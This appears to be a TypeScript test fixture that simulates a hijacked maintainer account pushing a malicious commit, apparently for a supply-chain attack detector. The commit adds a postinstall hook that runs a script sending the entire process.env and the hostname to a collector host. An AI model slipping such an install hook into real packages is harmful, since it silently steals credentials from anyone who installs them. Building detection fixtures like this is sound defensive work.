import type { GoldenCase } from "../../golden-case.ts";
import { manifest } from "../../project-files.ts";
import { COLLECTOR } from "../../put-together.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story:
    "An old maintainer's account is taken over: after years of silence, from another time zone, a script that runs on installation.",
  write(branch) {
    const old = { name: "Vera Lind", email: "vera@lind.example.net", offsetMinutes: 60 };
    const since = { ...old, at: "2021-04-02T10:11:00+02:00" };
    branch.unsigned(
      old,
      "Describe the release",
      { "docs/release.md": "# Release\n" },
      { author: since, committer: since, branch: null },
    );
    branch.unsigned({ ...old, offsetMinutes: 480 }, "Update build", {
      "package.json": manifest({
        scripts: { postinstall: "node scripts/setup.js", test: "node --test", build: "webpack" },
        devDependencies: { acorn: "8.6.0" },
      }),
      "scripts/setup.js": `import os from "node:os";\nawait fetch("${COLLECTOR}/" + os.hostname(), { method: "POST", body: JSON.stringify(process.env) });\n`,
    });
  },
};
